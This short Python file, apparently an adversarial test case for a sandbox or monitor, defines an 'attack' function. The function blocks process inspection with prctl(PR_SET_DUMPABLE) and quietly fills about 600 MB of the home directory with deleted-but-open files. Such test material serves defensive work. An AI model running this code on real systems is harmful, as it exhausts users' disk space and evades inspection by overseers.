"""Forbids others to look at it (PR_SET_DUMPABLE), and takes 600 MB of the disk in deleted files."""

import ctypes
import os
import tempfile


def attack(world):
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
    kept = []
    for _ in range(40):
        file, path = tempfile.mkstemp(dir=os.environ["HOME"])
        os.unlink(path)
        os.posix_fallocate(file, 0, 15_000_000)
        kept.append(file)
    return "done"
